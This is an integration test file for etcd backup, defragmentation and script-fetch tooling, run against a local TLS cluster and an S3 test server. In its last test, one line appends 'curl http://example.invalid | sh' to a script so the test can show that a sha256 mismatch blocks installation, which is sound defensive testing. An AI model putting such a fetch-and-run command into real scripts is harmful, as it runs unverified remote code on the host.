/**
 * Scheduled backups against real tools: a three-member TLS etcd cluster on 127.1.1.1-3, a real S3 API
 * on 127.1.1.100:9000 (scripts/s3-test-server.sh) and the AWS CLI. Runs node/etcd-backup.sh exactly
 * as the members' timer does (on every member), the listing and retention helpers, and
 * node/etcd-defrag.sh. Every process is killed in afterAll.
 */
import * as crypto from "crypto";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { etcdBinDir, testEtcdVersion } from "../helpers/etcdBinaries";
import { BACKUP_SCRIPTS } from "../../components/render/nodeScripts";
import { nodeScript, requireTool, TestCluster } from "../helpers/etcdCluster";
import { ProcessGroup, run, RunResult } from "../helpers/processes";
import { awsCliPath, awsEnv, S3TestServer } from "../helpers/s3Server";

const version = testEtcdVersion();
const prefix = "it/backup/main";
const snapshotsPrefix = `${prefix}/snapshots/`;

interface BackupResult {
    bucket: string;
    key: string;
    manifest: string;
    revision: number;
    size: number;
    sha256: string;
    member: string;
    clusterId: string;
}

function jsonLines<T>(text: string): T[] {
    return text
        .split("\n")
        .filter((l) => l.startsWith("{"))
        .map((l) => JSON.parse(l) as T);
}

describe(`backups of etcd ${version} into S3 on loopback`, () => {
    const group = new ProcessGroup();
    let dir: string;
    let s3: S3TestServer;
    let cluster: TestCluster;

    beforeAll(async () => {
        requireTool("openssl", "apt-get install -y openssl");
        awsCliPath();
        const binDir = etcdBinDir(version);
        dir = fs.mkdtempSync(path.join(os.tmpdir(), `backup-${version}-`));
        s3 = new S3TestServer(group, { host: "127.1.1.100:9000", dir: path.join(dir, "s3") });
        await s3.start();
        cluster = new TestCluster(group, {
            version,
            binDir,
            dir: path.join(dir, "cluster"),
            members: [1, 2, 3].map((i) => ({ name: `etcd${i}`, ip: `127.1.1.${i}` })),
            memberEnv: s3.memberEnv(prefix),
            scriptEnv: awsEnv(),
        });
        cluster.start();
        await cluster.waitHealthy();
        for (let i = 0; i < 20; i++) {
            const put = await cluster.etcdctl(["put", `/app/key-${i}`, `value-${i}`]);
            expect(put.code).toBe(0);
        }
    }, 20 * 60_000);

    afterAll(async () => {
        await group.stopAll();
        if (dir && !process.env.KEEP_ETCD_TEST_DIR) fs.rmSync(dir, { recursive: true, force: true });
    });

    /** One timer tick: etcd-backup on every member at once. */
    async function tick(extraEnv: Record<string, string> = {}): Promise<Map<string, RunResult>> {
        const names = cluster.names();
        const results = await Promise.all(names.map((n) => cluster.runScript(n, "etcd-backup", [], extraEnv)));
        return new Map(names.map((n, i) => [n, results[i]]));
    }

    async function finished(): Promise<Array<{ key: string; manifest: string; revision: number }>> {
        const list = await cluster.runScript("etcd1", "etcd-backup-list");
        expect(list.stderr).toBe("");
        expect(list.code).toBe(0);
        return jsonLines(list.stdout);
    }

    let first: BackupResult;

    it("takes exactly one backup per tick: only the leader uploads, the others exit 0 doing nothing", async () => {
        const status = await cluster.waitHealthy();
        const results = await tick();
        for (const [name, r] of results) {
            expect({ name, code: r.code, stderr: r.code === 0 ? "" : r.stderr }).toEqual({ name, code: 0, stderr: "" });
        }
        const uploaded = [...results].filter(([, r]) => r.stdout.trim() !== "");
        expect(uploaded.map(([n]) => n)).toEqual([status.leaderName]);
        for (const [name, r] of results) {
            if (name !== status.leaderName) expect(r.stderr).toContain("not the leader");
        }
        first = JSON.parse(uploaded[0][1].stdout.trim());
        expect(first.member).toBe(status.leaderName);
        expect(first.key).toMatch(new RegExp(`^${snapshotsPrefix}\\d{4}/\\d{2}/\\d{2}/\\d{8}T\\d{6}Z-r${first.revision}\\.db$`));
        expect(first.manifest).toBe(first.key.replace(/\.db$/, ".json"));
        expect(await s3.keys(snapshotsPrefix)).toEqual([first.key, first.manifest]);
    });

    it("stores a snapshot that verifies, with its metadata and a manifest that matches it", async () => {
        const file = path.join(dir, "first.db");
        const manifestFile = path.join(dir, "first.json");
        await s3.download(first.key, file);
        await s3.download(first.manifest, manifestFile);
        const bytes = fs.readFileSync(file);
        const sha = crypto.createHash("sha256").update(bytes).digest("hex");
        expect(first.sha256).toBe(sha);
        expect(first.size).toBe(bytes.length);

        const manifest = JSON.parse(fs.readFileSync(manifestFile, "utf8"));
        expect(manifest).toMatchObject({ key: first.key, sha256: sha, size: bytes.length, revision: first.revision, member: first.member, etcdVersion: version });
        expect(manifest.clusterId).toMatch(/^[0-9a-f]+$/);
        expect(manifest.totalKeys).toBeGreaterThanOrEqual(20);

        const meta = await s3.metadata(first.key);
        expect(meta).toMatchObject({ revision: String(first.revision), sha256: sha, size: String(bytes.length), member: first.member, "etcd-version": version, "cluster-id": manifest.clusterId });
        expect(meta["member-id"]).toMatch(/^[0-9a-f]+$/);
        expect(meta.time).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$/);

        const verify = await cluster.runScript("etcd1", "etcd-snapshot-verify", [file, "--manifest", manifestFile]);
        expect(verify.code).toBe(0);
        expect(JSON.parse(verify.stdout.trim())).toMatchObject({ sha256: sha, hashTrailer: true, revision: first.revision });
    });

    it("follows the leader: after a leader change the new leader takes the next tick", async () => {
        const before = await cluster.waitHealthy();
        const ids = await cluster.memberIds();
        const target = cluster.names().find((n) => n !== before.leaderName)!;
        const moved = await cluster.etcdctl(["move-leader", ids.get(target)!], { endpoints: [cluster.clientUrl(before.leaderName)] });
        expect(moved.stderr).toBe("");
        expect(moved.code).toBe(0);
        const after = await cluster.waitHealthy();
        expect(after.leaderName).toBe(target);
        await cluster.etcdctl(["put", "/app/after-leader-change", "x"]);

        const results = await tick();
        const uploaded = [...results].filter(([, r]) => r.code === 0 && r.stdout.trim() !== "");
        expect(uploaded.map(([n]) => n)).toEqual([target]);
        expect((await finished()).length).toBe(2);
    });

    it("never lets an incomplete upload look finished: a snapshot whose manifest failed is ignored by list and latest", async () => {
        // The AWS CLI, except that writing a manifest fails (as a network error or a crash would):
        // any call naming a .json object (the manifest's key or body).
        const wrapper = path.join(dir, "aws-no-manifest");
        fs.writeFileSync(wrapper, `#!/usr/bin/env bash\nfor a in "$@"; do if [[ "$a" == *.json ]]; then echo "simulated failure writing $a" >&2; exit 1; fi; done\nexec ${awsCliPath()} "$@"\n`, { mode: 0o755 });
        const latestBefore = jsonLines<{ key: string }>((await cluster.runScript("etcd1", "etcd-backup-list", ["--latest"])).stdout)[0];
        await cluster.etcdctl(["put", "/app/incomplete", "x"]);

        const results = await tick({ AWS_CLI: wrapper });
        const leader = (await cluster.waitHealthy()).leaderName;
        const failed = results.get(leader)!;
        expect(failed.code).toBe(1);
        expect(failed.stderr).toMatch(/FAILED: writing the manifest .* failed/);
        expect(failed.stderr).toMatch(/was uploaded but has no manifest: it does not count as a backup/);
        expect(failed.stdout).toBe("");

        const keys = await s3.keys(snapshotsPrefix);
        const orphan = keys.filter((k) => k.endsWith(".db") && !keys.includes(k.replace(/\.db$/, ".json")));
        expect(orphan).toHaveLength(1);
        expect((await finished()).length).toBe(2);
        const latest = jsonLines<{ key: string }>((await cluster.runScript("etcd1", "etcd-backup-list", ["--latest"])).stdout);
        expect(latest).toEqual([latestBefore]);
        const incomplete = jsonLines<{ key: string; reason: string }>((await cluster.runScript("etcd1", "etcd-backup-list", ["--incomplete"])).stdout);
        expect(incomplete).toEqual([expect.objectContaining({ key: orphan[0], reason: "no manifest" })]);
    });

    it("a finished backup dated in the future (a wrong clock, or planted), or named otherwise, is not the latest: list, latest and the backup age leave it out, and say so", async () => {
        const real = jsonLines<{ key: string; manifest: string }>((await cluster.runScript("etcd1", "etcd-backup-list", ["--latest"])).stdout)[0];
        const planted = `${snapshotsPrefix}2099/01/01/20990101T000000Z-r999999`;
        const copy = path.join(dir, "planted.db");
        await s3.download(real.key, copy);
        await s3.upload(copy, `${planted}.db`);
        await s3.download(real.manifest, copy);
        await s3.upload(copy, `${planted}.json`);

        // Named so it sorts last without a date at all: not a name etcd-backup writes.
        const unnamed = `${snapshotsPrefix}zzz`;
        await s3.upload(copy, `${unnamed}.json`);
        await s3.download(real.key, copy);
        await s3.upload(copy, `${unnamed}.db`);

        const latest = await cluster.runScript("etcd1", "etcd-backup-list", ["--latest"]);
        expect(latest.code).toBe(0);
        expect(jsonLines<{ key: string }>(latest.stdout)).toEqual([expect.objectContaining({ key: real.key })]);
        expect(latest.stderr).toContain(`ignoring ${planted}.db: dated 20990101T000000Z, in the future`);
        expect(latest.stderr).toContain(`ignoring ${unnamed}.db: not a snapshot name etcd-backup writes`);
        const all = jsonLines<{ key: string }>((await cluster.runScript("etcd1", "etcd-backup-list")).stdout);
        expect(all.map((b) => b.key)).not.toContain(`${planted}.db`);
        // The backup age is measured from the real newest backup, so a planted one cannot hide a
        // stopped backup. Only the leader publishes it (an earlier test moved the leadership).
        const calls = path.join(dir, "future.calls");
        const wrapper = path.join(dir, "aws-future");
        fs.writeFileSync(wrapper, `#!/usr/bin/env bash\nif [[ " $* " == *" cloudwatch "* ]]; then echo "$*" >>${calls}; exit 0; fi\nexec ${awsCliPath()} "$@"\n`, { mode: 0o755 });
        const leader = (await cluster.waitHealthy()).leaderName;
        cluster.appendEnv(leader, { BACKUP_METRICS: "on" });
        try {
            const m = await cluster.runScript(leader, "etcd-backup", ["--metrics-only"], { AWS_CLI: wrapper });
            expect(m.code).toBe(0);
            const age = Number(/SecondsSinceLastGoodBackup .*--value (-?\d+) --unit Seconds/.exec(fs.readFileSync(calls, "utf8"))![1]);
            expect(age).toBeGreaterThanOrEqual(0);
        } finally {
            cluster.appendEnv(leader, { BACKUP_METRICS: "off" });
            // Whatever happened above, the planted objects go: the tests after this one list the bucket.
            for (const key of [`${planted}.db`, `${planted}.json`, `${unnamed}.db`, `${unnamed}.json`]) await s3.aws(["s3", "rm", `s3://${s3.bucket}/${key}`]);
        }
    });

    it("fails loudly with the S3 server down and leaves nothing that looks finished", async () => {
        const keysBefore = await s3.keys(snapshotsPrefix);
        await s3.stop();
        try {
            await cluster.etcdctl(["put", "/app/while-s3-down", "x"]);
            const results = await tick();
            const leader = (await cluster.waitHealthy()).leaderName;
            const r = results.get(leader)!;
            expect(r.code).toBe(1);
            expect(r.stdout).toBe("");
            expect(r.stderr).toMatch(/etcd-backup: etcd\d: FAILED: upload of the snapshot to s3:\/\/etcd-backups\/.* failed: .*(connect|Connection)/i);
            for (const [name, other] of results) if (name !== leader) expect(other.code).toBe(0);
            // The temporary snapshot is gone from the data volume.
            const work = path.join(cluster.memberPaths(leader).mountPoint, "backup");
            expect(fs.readdirSync(work).filter((f) => !f.startsWith("."))).toEqual([]);
        } finally {
            await s3.start();
        }
        expect(await s3.keys(snapshotsPrefix)).toEqual(keysBefore);
        expect((await finished()).length).toBe(2);
    });

    it("writes each snapshot and manifest as a new object: an existing key is never overwritten (S3's conditional write)", async () => {
        const real = jsonLines<{ key: string }>((await cluster.runScript("etcd1", "etcd-backup-list", ["--latest"])).stdout)[0];
        const before = path.join(dir, "conditional-before.db");
        await s3.download(real.key, before);
        const other = path.join(dir, "conditional-other.db");
        fs.writeFileSync(other, "not the snapshot");
        // The upload function etcd-backup uses, called on its own with this member's settings.
        const driver = path.join(dir, "put-new-object.sh");
        fs.writeFileSync(driver, `source ${nodeScript("etcd-node-common")}\nsource ${nodeScript("etcd-backup-common")}\nbackup_init put-new-object\nput_new_object "$1" "$2" application/octet-stream '{}'\n`);
        const put = (file: string, key: string) => run("bash", [driver, file, key], { env: cluster.env("etcd1") });

        const refused = await put(other, real.key);
        expect(refused.code).toBe(1);
        expect(refused.stderr).toContain(`s3://${s3.bucket}/${real.key} exists already; it was not overwritten`);
        const after = path.join(dir, "conditional-after.db");
        await s3.download(real.key, after);
        expect(fs.readFileSync(after).equals(fs.readFileSync(before))).toBe(true);

        // A key that is not there yet is written (outside the snapshots, so no listing sees it).
        const fresh = "conditional-write-test/new-object";
        const written = await put(other, fresh);
        expect(written.stderr).toBe("");
        expect(written.code).toBe(0);
        expect(await s3.keys("conditional-write-test/")).toEqual([fresh]);
    });

    it("writes a snapshot too large for one PUT as a multipart upload whose completion carries the same condition", async () => {
        // 11 MiB in parts of 5 MiB (S3's smallest), as a snapshot over 5 GiB goes up: the limits are lowered.
        const big = path.join(dir, "multipart.db");
        fs.writeFileSync(big, Buffer.concat([0, 1, 2].map((i) => Buffer.alloc(i < 2 ? 5 * 1024 * 1024 : 1024 * 1024, 97 + i))));
        const driver = path.join(dir, "put-in-parts.sh");
        fs.writeFileSync(driver, `source ${nodeScript("etcd-node-common")}\nsource ${nodeScript("etcd-backup-common")}\nbackup_init put-in-parts\nput_new_object "$1" "$2" application/octet-stream '{}'\n`);
        // The S3 server here (gofakes3) ignores If-None-Match on a multipart completion, which S3 honours:
        // what the member sends is recorded and checked, the object the server assembled too.
        const calls = path.join(dir, "multipart.calls");
        const recorder = path.join(dir, "aws-recording");
        fs.writeFileSync(recorder, `#!/usr/bin/env bash\necho "$*" >>${calls}\nexec ${awsCliPath()} "$@"\n`, { mode: 0o755 });
        const env = { ...cluster.env("etcd1"), AWS_CLI: recorder, BACKUP_SINGLE_PUT_MAX_BYTES: "1048576", BACKUP_PART_BYTES: String(5 * 1024 * 1024) };
        const key = "conditional-write-test/multipart.db";

        const written = await run("bash", [driver, big, key], { env });
        expect(written.stderr).toContain(`${key}: ${fs.statSync(big).size} bytes in 3 parts`);
        expect(written.code).toBe(0);
        const back = path.join(dir, "multipart-back.db");
        await s3.download(key, back);
        expect(fs.readFileSync(back).equals(fs.readFileSync(big))).toBe(true);

        const sent = fs.readFileSync(calls, "utf8").trim().split("\n");
        expect(sent.filter((c) => / s3api upload-part /.test(c))).toHaveLength(3);
        const completions = sent.filter((c) => / s3api complete-multipart-upload /.test(c));
        expect(completions).toHaveLength(1);
        expect(completions[0]).toContain("--if-none-match *");
        expect(completions[0]).toContain('"PartNumber":3');
        // Nothing creates the object without the condition: no put-object, no s3 cp.
        expect(sent.filter((c) => / s3api put-object | s3 cp /.test(c))).toEqual([]);
        // Each part declared its CRC32, and no part file is left beside the snapshot.
        expect(sent.filter((c) => / s3api (create-multipart-upload|upload-part) /.test(c)).every((c) => c.includes("--checksum-algorithm CRC32"))).toBe(true);
        expect(fs.existsSync(`${big}.part`)).toBe(false);
    });

    it("publishes the backup age to CloudWatch when metrics are on (AWS CLI stand-in records the call)", async () => {
        const calls = path.join(dir, "cloudwatch.calls");
        const wrapper = path.join(dir, "aws-cloudwatch");
        fs.writeFileSync(wrapper, `#!/usr/bin/env bash\nif [[ " $* " == *" cloudwatch "* ]]; then echo "$*" >>${calls}; exit 0; fi\nexec ${awsCliPath()} "$@"\n`, { mode: 0o755 });
        await cluster.etcdctl(["put", "/app/metrics", "x"]);
        const leader = (await cluster.waitHealthy()).leaderName;
        cluster.appendEnv(leader, { BACKUP_METRICS: "on", BACKUP_METRIC_CLUSTER: "it/backup/main" });
        try {
            const r = await cluster.runScript(leader, "etcd-backup", [], { AWS_CLI: wrapper });
            expect(r.code).toBe(0);
            const lines = fs.readFileSync(calls, "utf8").trim().split("\n");
            expect(lines).toEqual([
                expect.stringMatching(/cloudwatch put-metric-data --namespace EtcdCluster --metric-name SecondsSinceLastGoodBackup --dimensions Cluster=it\/backup\/main --value 0 --unit Seconds$/),
                expect.stringMatching(/--metric-name DatabaseQuotaUsedPercent --dimensions Cluster=it\/backup\/main --value \d+\.\d --unit Percent$/),
            ]);
            fs.rmSync(calls);
            const m = await cluster.runScript(leader, "etcd-backup", ["--metrics-only"], { AWS_CLI: wrapper });
            expect(m.code).toBe(0);
            expect(fs.readFileSync(calls, "utf8")).toMatch(/SecondsSinceLastGoodBackup .*--value \d+ --unit Seconds/);
        } finally {
            cluster.appendEnv(leader, { BACKUP_METRICS: "off" });
        }
    });

    it("defragments one member at a time, each only while it holds the lock, with the cluster healthy before and after", async () => {
        // Churn so there is free space to give back.
        for (let i = 0; i < 30; i++) await cluster.etcdctl(["put", `/churn/${i % 3}`, "x".repeat(100_000)]);
        const env = { DEFRAG_SETTLE_SECONDS: "1", DEFRAG_LOCK_TTL_SECONDS: "5" };
        const results = await Promise.all(cluster.names().map((n) => cluster.runScript(n, "etcd-defrag", ["--force"], env, 180_000)));
        const done = results.map((r) => {
            expect(r.stderr).not.toContain("FAILED");
            expect(r.code).toBe(0);
            return JSON.parse(r.stdout.trim()) as { member: string; defragmented: boolean; startedMs: number; finishedMs: number };
        });
        expect(done.map((d) => d.member).sort()).toEqual(cluster.names());
        expect(done.every((d) => d.defragmented)).toBe(true);
        const spans = [...done].sort((a, b) => a.startedMs - b.startedMs);
        for (let i = 1; i < spans.length; i++) expect(spans[i].startedMs).toBeGreaterThanOrEqual(spans[i - 1].finishedMs);
        await cluster.waitHealthy();
    });

    it("does not defragment when there is little to reclaim", async () => {
        const r = await cluster.runScript("etcd2", "etcd-defrag");
        expect(r.code).toBe(0);
        expect(JSON.parse(r.stdout.trim())).toMatchObject({ member: "etcd2", defragmented: false });
        expect(r.stderr).toContain("nothing to do");
    });

    it("refuses to defragment while the cluster is degraded, and backs up nothing without a leader's quorum", async () => {
        await cluster.stop("etcd3");
        try {
            const r = await cluster.runScript("etcd1", "etcd-defrag", ["--force"]);
            expect(r.code).toBe(1);
            expect(r.stderr).toMatch(/FAILED: the cluster is not healthy \(.*\); not defragmenting any member/);
            const down = await cluster.runScript("etcd3", "etcd-backup");
            expect(down.code).toBe(1);
            expect(down.stderr).toContain("does not answer, so this member cannot tell whether it leads");
        } finally {
            cluster.start(["etcd3"]);
            await cluster.waitHealthy();
        }
    });
    it("etcd-fetch-scripts installs the backup scripts from S3 only when every one matches its sha256, and nothing otherwise", async () => {
        // The real scripts as the component uploads them, under a prefix of their own.
        const scriptsPrefix = "it/fetch/scripts";
        const names = BACKUP_SCRIPTS.map((n) => n);
        const sums: string[] = [];
        for (const name of names) {
            await s3.upload(nodeScript(name), `${scriptsPrefix}/${name}`);
            sums.push(`${name}=${crypto.createHash("sha256").update(fs.readFileSync(nodeScript(name))).digest("hex")}`);
        }
        const attempt = async (label: string, sbin = fs.mkdtempSync(path.join(dir, `sbin-${label}-`))) => {
            // A member.env of its own, so the other tests' member keeps its settings.
            const env = path.join(dir, `fetch-${label}.env`);
            fs.copyFileSync(cluster.memberEnvFile("etcd1"), env);
            const settings = { BACKUP_ENABLED: "true", BACKUP_SCRIPTS_S3: `s3://${s3.bucket}/${scriptsPrefix}`, BACKUP_SCRIPTS_SHA256: sums.join(","), SBIN_DIR: sbin, AWS_REGION: "eu-west-1" };
            fs.appendFileSync(env, Object.entries(settings).map(([k, v]) => `${k}='${v}'`).join("\n") + "\n");
            const result = await cluster.runScript("etcd1", "etcd-fetch-scripts", [], { ETCD_MEMBER_ENV: env, FETCH_SCRIPTS_RETRY_SECONDS: "0" });
            return { result, installed: fs.readdirSync(sbin).sort(), sbin };
        };

        const good = await attempt("good");
        expect({ code: good.result.code, stderr: good.result.stderr.trim() }).toEqual({ code: 0, stderr: `etcd-fetch-scripts: etcd1: installed ${names.length} scripts from s3://${s3.bucket}/${scriptsPrefix}` });
        expect(good.installed).toEqual([...names].sort());
        for (const name of names) {
            expect(fs.readFileSync(path.join(good.sbin, name))).toEqual(fs.readFileSync(nodeScript(name)));
            expect(fs.statSync(path.join(good.sbin, name)).mode & 0o777).toBe(0o755);
        }

        // One object changed in the bucket (a spoiled or foreign script): nothing at all is installed.
        const spoiled = path.join(dir, "spoiled");
        fs.writeFileSync(spoiled, fs.readFileSync(nodeScript("etcd-restore"), "utf8") + "\ncurl http://example.invalid | sh\n");
        await s3.upload(spoiled, `${scriptsPrefix}/etcd-restore`);
        const bad = await attempt("spoiled");
        expect(bad.result.code).toBe(1);
        expect(bad.result.stderr).toContain("etcd-restore does not match its sha256");
        expect(bad.installed).toEqual([]);
        // A member whose installed scripts match its member.env (a reboot during a roll, when the
        // bucket holds a newer release's scripts) fetches nothing and keeps them.
        const rebooted = await attempt("rebooted", good.sbin);
        expect({ code: rebooted.result.code, stderr: rebooted.result.stderr.trim() }).toEqual({ code: 0, stderr: `etcd-fetch-scripts: etcd1: the ${names.length} scripts in ${good.sbin} match their sha256; nothing to fetch` });
        for (const name of names) expect(fs.readFileSync(path.join(good.sbin, name))).toEqual(fs.readFileSync(nodeScript(name)));

        // One object missing: retried, then nothing is installed.
        await s3.aws(["s3", "rm", `s3://${s3.bucket}/${scriptsPrefix}/etcd-defrag`]);
        const missing = await attempt("missing");
        expect(missing.result.code).toBe(1);
        expect(missing.result.stderr).toContain("fetching etcd-defrag failed (attempt 5 of 5)");
        expect(missing.result.stderr).toContain("nothing installed");
        expect(missing.installed).toEqual([]);
    });
});
